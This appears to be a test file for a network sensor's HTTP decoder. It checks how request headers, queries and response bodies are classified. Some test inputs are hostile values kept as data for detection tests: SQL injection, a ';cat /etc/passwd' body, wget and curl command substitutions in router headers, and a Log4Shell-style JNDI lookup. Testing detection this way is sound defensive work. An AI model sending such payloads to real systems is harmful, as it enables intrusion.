import { HttpSign, NoteKind, REQUEST_SHAPE_SHIFT, RequestShape } from '@weir/contracts';
import { describe, expect, it } from 'vitest';
import { cuts, decodeRows } from '../decode-rows.js';
import * as build from '../packet-builder.js';
import { FROM_SERVER, overTcp, told, turned } from './carried.fixture.js';

describe('HTTP heads', () => {
  const ports = { source: 40000, destination: 8080 };
  const request = (text: string, sequence = 1) => overTcp(build.bytes(text), { ...ports, sequence });
  const response = (text: string) => overTcp(build.bytes(text), turned(ports), FROM_SERVER);

  it('of a connection that stays open are all noted, and bodies are not', () => {
    const rows = decodeRows([
      request('GET /a HTTP/1.1\r\nHost: x\r\n\r\n'),
      response('HTTP/1.1 401 No\r\n\r\n'),
      request('GET /a HTTP/1.1\r\nAuthorization: Basic eA==\r\nhost:  y.example:8080 \r\n\r\n'),
      response('HTTP/1.1 200 OK\r\n\r\n'),
      response('GETTING a body'),
      response('HTTP'),
      request('POST /b HTTP/1.1\r\n'),
    ]);
    expect(rows.map((row) => [row.noteKind, row.noteCode, row.noteText])).toEqual([
      [NoteKind.httpRequest, HttpSign.whole, 'GET /a x'],
      [NoteKind.httpResponse, 401, ''],
      [NoteKind.httpRequest, HttpSign.whole | HttpSign.authorization, 'GET /a y.example:8080.'],
      [NoteKind.httpResponse, 200, ''],
      [0, 0, ''],
      [0, 0, ''],
      [NoteKind.httpRequest, 0, 'POST /b'],
    ]);
  });

  it('give the first host alone, at most 64 bytes of it, and nothing from the body', () => {
    const long = `GET / HTTP/1.1\r\nHost: ${'a'.repeat(100)}\r\nHost: b\r\n\r\nAuthorization: no\r\nHost: c\r\n`;
    expect(told([request(long)])).toEqual([[HttpSign.whole, `GET / ${'a'.repeat(64)}`]]);
  });

  it('cut anywhere tell what was captured', () => {
    const text = build.bytes('GET /path?q HTTP/1.1\r\nHost: h.example\r\nAuthorization: Basic eA==\r\n\r\n');
    const rows = decodeRows(cuts((source) => overTcp(text, { source, destination: 8080 })));
    expect(rows.at(-1)).toMatchObject({
      noteCode: HttpSign.whole | HttpSign.authorization | HttpSign.query,
      noteText: 'GET /path h.example',
    });
    for (const row of rows) expect('GET /path h.example'.startsWith(row.noteText)).toBe(true);
  });
});

describe('fields of a request', () => {
  const signs = (fields: string): number => {
    const text = build.bytes(`GET / HTTP/1.1\r\nHost: h\r\n${fields}\r\n`);
    return (told([overTcp(text, { source: 40000, destination: 80 })])[0]![0] as number) & ~HttpSign.whole;
  };
  const { userAgent, saysBrowser, saysOldBrowser, nakedAgent, attackTool } = HttpSign;

  it('are told one by one, in any case', () => {
    expect(signs('ACCEPT-Language: en\r\nAccept: */*\r\nreferer: http://h/\r\nCookie: a=b\r\n')).toBe(
      HttpSign.acceptLanguage | HttpSign.accept | HttpSign.referer | HttpSign.cookie,
    );
  });

  it('say what the program calls itself', () => {
    expect(signs('User-Agent: curl/8.1\r\n')).toBe(userAgent);
    expect(signs('User-Agent: \r\n')).toBe(0);
    expect(signs('User-Agent: bot\r\n')).toBe(userAgent | nakedAgent);
    expect(signs('User-Agent: Mozilla/5.0 (X11) Firefox/140.0\r\n')).toBe(userAgent | saysBrowser);
    expect(signs('User-Agent: Mozilla/4.0 (compatible; MSIE 6.0)\r\n')).toBe(userAgent | saysBrowser | saysOldBrowser);
    expect(signs('User-Agent: Mozilla/4.08 (X; U)\r\n')).toBe(userAgent | saysBrowser | saysOldBrowser);
    expect(signs('User-Agent: Mozilla/4.0 (Windows 10 10.0) Java/1.8.0\r\n')).toBe(userAgent | saysBrowser);
    expect(signs('User-Agent: sqlmap/1.8\r\n')).toBe(userAgent | attackTool);
    expect(signs('User-Agent: Hydration/2 library\r\n')).toBe(userAgent);
  });
});

describe('the query of a request', () => {
  const query = (target: string, more = ''): (string | number)[] => {
    const text = build.bytes(`GET ${target} HTTP/1.1\r\nHost: h\r\n\r\n${more}`);
    const [code, note] = told([overTcp(text, { source: 40000, destination: 80 })])[0]!;
    return [(code as number) >>> REQUEST_SHAPE_SHIFT, note!];
  };

  it('stays with the sensor when it is names and values', () => {
    expect(query('/a?user=ann&token=eyJhbGciOi.x.y&next=%2Fhome')).toEqual([0, 'GET /a h']);
  });

  it('is kept, decoded, when it carries an attack or names a program', () => {
    expect(query('/a?id=1%27+OR+%271%27%3D%271')).toEqual([RequestShape.sql, "GET /a h ?id=1' OR '1'='1"]);
    expect(query('/get?file=Setup.exe&v=2')).toEqual([0, 'GET /get h ?file=Setup.exe&v=2']);
  });

  it('is cut where a note is full', () => {
    expect((query(`/a?id=1'+or+1=1&x=${'y'.repeat(900)}`)[1] as string).length).toBe(255);
  });

  it('counts in a body too, of which nothing is kept', () => {
    expect(query('/a', 'name=x;cat /etc/passwd')).toEqual([RequestShape.command, 'GET /a h']);
    expect(query('/edit', 'page=<script>let a = 1;</script>')).toEqual([0, 'GET /edit h']);
  });

  it('has the shape of an expression when a field has it', () => {
    const text = build.bytes(`GET / HTTP/1.1\r\nUser-Agent: ${'$'}{jndi:ldap://h/x}\r\n\r\n`);
    const [code] = told([overTcp(text, { source: 40000, destination: 80 })])[0]!;
    expect((code as number) >>> REQUEST_SHAPE_SHIFT).toBe(RequestShape.expression);
  });
});

describe('a field', () => {
  const shape = (field: string): number => {
    const text = build.bytes(`POST /HNAP1/ HTTP/1.1\r\n${field}\r\n\r\n`);
    const [code] = told([overTcp(text, { source: 40000, destination: 80 })])[0]!;
    return (code as number) >>> REQUEST_SHAPE_SHIFT;
  };

  it('that holds a command as shells replace it has the shape of one', () => {
    expect(shape('SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://h/x`')).toBe(RequestShape.command);
    expect(shape('X-Forwarded-For: $(curl http://h/x)')).toBe(RequestShape.command);
  });

  it('with a backquote or a dollar alone has none', () => {
    expect(shape('Cookie: a=`b`; price=$(12)')).toBe(0);
    expect(shape('Referer: http://h/?q=`idea`')).toBe(0);
  });
});

describe('a response', () => {
  const brings = (fields: string, body: string) =>
    told([
      overTcp(build.bytes(`HTTP/1.1 200 OK\r\n${fields}\r\n${body}`), { source: 80, destination: 40000 }, FROM_SERVER),
    ])[0]![1];

  it('that brings a program is told by first bytes, type or file name', () => {
    expect(brings('Content-Type: image/png\r\n', 'MZ\x90\0\x03\0')).toBe('exe image/png');
    expect(brings('content-type: application/x-msdownload\r\n', '')).toBe('exe application/x-msdownload');
    expect(brings('Content-Disposition: attachment; filename="a.DLL"\r\n', '')).toBe('exe -');
    expect(brings('', '\x7fELF\x01')).toBe('elf -');
    expect(brings('Content-Type: text/plain\r\n', '#!/bin/sh\n')).toBe('script text/plain');
    expect(brings('Content-Type: text/plain\r\n', 'TVqQAAMAAAAEAAAA')).toBe('exe base64');
  });

  it('that brings anything else is not', () => {
    expect(brings('Content-Type: text/html\r\n', 'MZ is how programs begin')).toBe('');
    expect(brings('Content-Type: text/plain\r\n', 'TV is on')).toBe('');
    expect(brings('Content-Disposition: attachment; filename="a.pdf"\r\n', '%PDF')).toBe('');
  });
});
